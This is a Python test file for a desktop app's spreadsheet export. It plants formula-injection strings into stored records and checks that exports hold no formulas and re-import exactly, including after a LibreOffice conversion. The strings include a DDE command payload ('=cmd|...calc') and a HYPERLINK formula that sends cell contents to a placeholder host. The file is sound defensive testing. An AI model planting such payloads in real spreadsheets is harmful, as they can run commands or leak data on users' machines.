"""Export never writes a formula and never cuts text; the app's own export re-imports exactly, also after a
LibreOffice round trip (``soffice --headless --convert-to xlsx``).

Each test attacks a fresh copy of demo data: text a person could type ("=HYPERLINK(…)", "=cmd|…", "+1+2", "@SUM",
a leading tab or line break) is put into names, summaries and notes; the workbook written must hold no formula
element at all, and reading it back must give the same text.
"""

from __future__ import annotations

import shutil
import subprocess
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from sqlalchemy import select

from hoagiai_desktop import i18n
from hoagiai_desktop.domain import models as m
from hoagiai_desktop.i18n import format_number
from hoagiai_desktop.interchange import export_workbook, import_workbook
from hoagiai_desktop.interchange.list_xlsx import write_list_xlsx
from hoagiai_desktop.interchange.safe_cells import MAX_CELL_TEXT, CellTooLong
from hoagiai_desktop.reports.tables import Grid, simple_header
from hoagiai_desktop.reports.xlsx import workbook_bytes
from hoagiai_desktop.storage.opening import open_database
from tests.hostile.data_files import fresh_copy, make_demo, one_sentence, sha256

FORMULAS = (
    '=HYPERLINK("http://example.invalid/?q="&A1,"Bấm vào đây")',
    "=cmd|' /C calc'!A0",
    "+1+2",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=1+1",
    "\t=1+1",
    "\n=SUM(A1:A3)",
    "\r\n-1",
)


@pytest.fixture(autouse=True)
def _english() -> None:
    """Sentences are asserted in English (the source strings); the commands are run with --lang en."""
    i18n.set_language("en")


@pytest.fixture(scope="module")
def demo(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return make_demo(tmp_path_factory.mktemp("demo"))


def _plant(path: Path) -> dict[str, str]:
    """Hostile text in every kind of text field of the demo data; returns code → planted text."""
    planted: dict[str, str] = {}
    db = open_database(path)
    try:
        with db.transaction() as s:
            villages = s.execute(select(m.Village).order_by(m.Village.code)).scalars().all()
            mediators = s.execute(select(m.Mediator).order_by(m.Mediator.code)).scalars().all()
            cases = s.execute(select(m.Case).order_by(m.Case.code)).scalars().all()
            teams = s.execute(select(m.Team).order_by(m.Team.code)).scalars().all()
            for i, text in enumerate(FORMULAS):
                case = cases[i]
                case.summary, case.notes = text, text
                planted[case.code] = text
            villages[0].name = FORMULAS[0]
            mediators[0].full_name, mediators[0].address = FORMULAS[1], FORMULAS[2]
            teams[0].notes = FORMULAS[4]
    finally:
        db.dispose()
    return planted


def _formula_elements(path: Path) -> int:
    with zipfile.ZipFile(path) as zf:
        return sum(
            zf.read(name).count(b"<f>") + zf.read(name).count(b"<f ")
            for name in zf.namelist()
            if name.startswith("xl/worksheets/")
        )


def _values(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    wb = openpyxl.load_workbook(path, read_only=True, data_only=True)
    try:
        return {ws.title: [tuple(r) for r in ws.iter_rows(values_only=True)] for ws in wb.worksheets}
    finally:
        wb.close()


def _trimmed(values: dict[str, list[tuple[Any, ...]]]) -> dict[str, list[tuple[Any, ...]]]:
    """Cell values with text trimmed and white space collapsed, as the importer (and every form) stores text."""
    return {
        name: [tuple(" ".join(v.split()) if isinstance(v, str) else v for v in row) for row in rows]
        for name, rows in values.items()
    }


def _reimport(workbook: Path, folder: Path) -> Path:
    """Import ``workbook`` into a new empty data file and export that again; returns the second export."""
    folder.mkdir(parents=True, exist_ok=True)
    db = open_database(folder / "empty.sqlite3")
    try:
        report = import_workbook(db, workbook)
        assert report.ok, [p.message for p in report.errors][:5]
        return export_workbook(db, folder / "again.xlsx").path
    finally:
        db.dispose()


def _case_texts(path: Path) -> dict[str, tuple[str, str | None]]:
    db = open_database(path)
    try:
        with db.reading() as s:
            return {c.code: (c.summary, c.notes) for c in s.execute(select(m.Case)).scalars()}
    finally:
        db.dispose()


def test_formula_text_is_written_as_text_and_reimports_exactly(demo: Path, tmp_path: Path) -> None:
    data = fresh_copy(demo, tmp_path / "a")
    planted = _plant(data)
    db = open_database(data, reader=True)
    try:
        first = export_workbook(db, tmp_path / "export.xlsx").path
    finally:
        db.dispose()
    assert _formula_elements(first) == 0
    case_rows = {row[0]: row for row in _values(first)["VuViec"][1:]}
    for code, text in planted.items():
        assert case_rows[code][5] == text.replace(
            "\r\n", "\n"
        )  # the planted text itself, not a formula and not its (absent) result

    again = _reimport(first, tmp_path / "b")
    assert _trimmed(_values(again)) == _trimmed(_values(first))
    texts = _case_texts(tmp_path / "b" / "empty.sqlite3")
    for code, text in planted.items():
        assert texts[code][0] == " ".join(
            text.split()
        )  # the importer trims and collapses white space, as forms do


def test_quote_prefix_marks_formula_text_for_excel(demo: Path, tmp_path: Path) -> None:
    data = fresh_copy(demo, tmp_path / "a")
    _plant(data)
    db = open_database(data, reader=True)
    try:
        path = export_workbook(db, tmp_path / "export.xlsx").path
    finally:
        db.dispose()
    wb = openpyxl.load_workbook(path)
    ws = wb["VuViec"]
    marked = [c for row in ws.iter_rows(min_row=2) for c in row if isinstance(c.value, str) and c.quotePrefix]
    assert {c.value for c in marked} >= {t.replace("\r\n", "\n") for t in FORMULAS}
    assert all(c.data_type == "s" for c in marked)


@pytest.mark.skipif(
    shutil.which("soffice") is None,
    reason="LibreOffice (soffice) is not installed; scripts/system-deps.sh installs libreoffice-calc-nogui",
)
def test_export_survives_a_libreoffice_round_trip(demo: Path, tmp_path: Path) -> None:
    data = fresh_copy(demo, tmp_path / "a")
    planted = _plant(data)
    db = open_database(data, reader=True)
    try:
        first = export_workbook(db, tmp_path / "export.xlsx").path
    finally:
        db.dispose()
    out = tmp_path / "lo"
    out.mkdir()
    profile = tmp_path / "lo-profile"
    done = subprocess.run(
        ["soffice", f"-env:UserInstallation=file://{profile}", "--headless", "--convert-to", "xlsx",
         "--outdir", str(out), str(first)],
        capture_output=True, text=True, timeout=240,
    )  # fmt: skip
    converted = out / "export.xlsx"
    assert converted.exists(), done.stdout + done.stderr
    assert _formula_elements(converted) == 0
    again = _reimport(converted, tmp_path / "b")
    assert _trimmed(_values(again)) == _trimmed(_values(first))
    texts = _case_texts(tmp_path / "b" / "empty.sqlite3")
    for code, text in planted.items():
        assert texts[code][0] == " ".join(text.split())


def test_text_too_long_for_a_cell_is_refused_naming_the_record(demo: Path, tmp_path: Path) -> None:
    data = fresh_copy(demo, tmp_path / "a")
    db = open_database(data)
    try:
        with db.transaction() as s:
            case = s.execute(select(m.Case).order_by(m.Case.code)).scalars().first()
            assert case is not None
            case.agreement = "Hai bên thống nhất. " * 2000  # 40,000 characters
            code = case.code
    finally:
        db.dispose()
    before = sha256(data)
    done = subprocess.run(
        ["hoagiai", "--lang", "en", "--db", str(data), "export", str(tmp_path / "out.xlsx")],
        capture_output=True,
        text=True,
    )
    assert done.returncode != 0
    assert one_sentence(done.stderr), done.stderr
    assert code in done.stderr and format_number(MAX_CELL_TEXT) in done.stderr
    assert not (tmp_path / "out.xlsx").exists()
    assert [p.name for p in tmp_path.iterdir() if p.suffix != ""] == []  # no temporary file left either
    assert sha256(data) == before


def test_list_and_report_writers_never_write_formulas(tmp_path: Path) -> None:
    path = write_list_xlsx(
        tmp_path / "list.xlsx", "=Danh sách", ["=Tên", "Ghi chú"], [[t, t] for t in FORMULAS]
    )
    assert _formula_elements(path) == 0
    rows = _values(path)[next(iter(_values(path)))]
    assert [r[0] for r in rows[2:]] == [" ".join(t.split()) for t in FORMULAS]  # list text is NFC, trimmed

    grid = Grid(sheet_title="Bảng", heading=["=BÁO CÁO"], header=simple_header(["=Tên", "-Ghi chú"]),
                header_rows=1, rows=[[t, t] for t in FORMULAS], widths_mm=[40, 40])  # fmt: skip
    report = tmp_path / "report.xlsx"
    report.write_bytes(workbook_bytes([grid]))
    assert _formula_elements(report) == 0

    with pytest.raises(CellTooLong) as err:
        write_list_xlsx(tmp_path / "long.xlsx", "Danh sách", ["Tên"], [["a"], ["x" * (MAX_CELL_TEXT + 1)]])
    assert "row 4" in str(err.value) and one_sentence(str(err.value))
    assert not (tmp_path / "long.xlsx").exists()
